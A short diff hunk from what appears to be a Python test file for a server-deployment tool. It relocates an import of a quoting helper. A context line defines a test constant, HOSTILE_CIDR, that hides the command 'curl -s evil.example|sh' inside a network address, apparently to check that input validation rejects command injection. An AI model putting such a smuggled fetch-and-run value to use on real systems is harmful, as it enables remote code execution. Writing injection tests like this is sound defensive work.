@@ -16,10 +16,11 @@ from test_web_operations import _installed  # a Debian host with fresh apt lists
 
 from tasks.firewall import configure_firewall, nftables_ruleset
 from tasks.monitor import install_monitor, unit_context
-from tasks.nginx import SELF_SIGNED_CERT, SELF_SIGNED_KEY, _single_quoted
+from tasks.nginx import SELF_SIGNED_CERT, SELF_SIGNED_KEY
 from tasks.nodejs import download_proxy
 from tasks.proxy import apt_proxy_conf, configure_proxy, npmrc
 from wsready import hostdata
+from wsready.deploy.operations.tls import _single_quoted
 from wsready.validate import ConfigError
 
 HOSTILE_CIDR = "fe80::%x;curl -s evil.example|sh;/128"
